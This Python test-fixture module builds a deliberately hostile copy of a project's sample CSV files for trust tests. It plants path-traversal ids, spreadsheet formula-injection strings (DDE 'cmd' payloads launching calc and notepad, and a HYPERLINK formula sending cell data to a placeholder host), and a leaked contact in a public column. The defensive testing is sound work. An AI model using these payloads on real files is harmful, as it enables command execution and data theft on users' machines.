"""An adversarial copy of the bundled sample, for the trust tests (issue 8).

:func:`write_hostile_sample` copies ``data/exemple`` into a folder and plants,
in every table a command reads, the kinds of values messy or hostile files
carry: ids that climb out of the output folder, formulas for spreadsheets, a
contact shifted into a public column, undeclared personal columns, a row to
reject, a Windows-1252 file. :data:`HOSTILE` names what was planted, so tests
can look for it in the outputs.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd

from mitlib.core.config import EXAMPLE_DIR

#: What the hostile sample plants, by kind.
HOSTILE = {
    # replaces marathon M1 in projets and coachs
    "marathon": "../../evasion/m1",
    # replaces the id of the first project of M1
    "project": "M1-P01/../../../evasion2",
    "formula_title": '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")',
    "formula_description": "@SOMME(1+1)*cmd|' /C calc'!A0",
    "formula_organisation": "-2+3+cmd|' /C notepad'!A0",
    "formula_comment": "+1+1",
    # a stray quote shifted the owner's contact into the public « adresse »
    "shifted_contact": "proprio.decale@exemple.org 06 99 88 77 66",
    "undeclared_email": "coach.cache.{n}@exemple.org",
    "rejected_coach": "K-001",
}


def _read(name: str) -> pd.DataFrame:
    return pd.read_csv(
        EXAMPLE_DIR / f"{name}.csv",
        sep=";",
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )


def _write(df: pd.DataFrame, path: Path, encoding: str = "utf-8-sig") -> None:
    # plain pandas on purpose: the planted values must reach the file as typed
    df.to_csv(path, sep=";", index=False, encoding=encoding, lineterminator="\n")


def write_hostile_sample(folder: Path) -> Path:
    """Write the hostile copy of the sample into ``folder`` and return it."""
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(EXAMPLE_DIR / "grille.yaml", folder / "grille.yaml")
    shutil.copy(EXAMPLE_DIR / "acteurs.csv", folder / "acteurs.csv")
    shutil.copy(EXAMPLE_DIR / "evenements.csv", folder / "evenements.csv")

    projets = _read("projets")
    projets["marathon"] = projets["marathon"].replace("M1", HOSTILE["marathon"])
    first = projets.index[projets["id"] == "M1-P01"][0]
    projets.loc[first, "id"] = HOSTILE["project"]
    projets.loc[first, "titre"] = HOSTILE["formula_title"]
    projets.loc[first + 1, "description"] = HOSTILE["formula_description"]
    _write(projets, folder / "projets.csv")

    coachs = _read("coachs")
    coachs["marathons"] = coachs["marathons"].str.replace(
        r"\bM1\b", HOSTILE["marathon"], regex=True
    )
    coachs["conflits"] = coachs["conflits"].str.replace(
        "M1-P01", HOSTILE["project"], regex=False
    )
    m1 = coachs.index[coachs["marathons"].str.contains(HOSTILE["marathon"])]
    coachs.loc[m1[1], "organisation"] = HOSTILE["formula_organisation"]
    coachs["email"] = [
        HOSTILE["undeclared_email"].format(n=n) for n in range(len(coachs))
    ]
    rejected = coachs.index[coachs["id"] == HOSTILE["rejected_coach"]][0]
    coachs.loc[rejected, "capacite_max"] = "beaucoup"
    _write(coachs, folder / "coachs.csv")

    locaux = _read("locaux")
    locaux.loc[0, "adresse"] = HOSTILE["shifted_contact"]
    # Windows-1252, as Excel saves « CSV (séparateur : point-virgule) »
    _write(locaux, folder / "locaux.csv", encoding="cp1252")

    candidatures = _read("candidatures")
    candidatures.loc[0, "commentaires"] = HOSTILE["formula_comment"]
    _write(candidatures, folder / "candidatures.csv")
    return folder
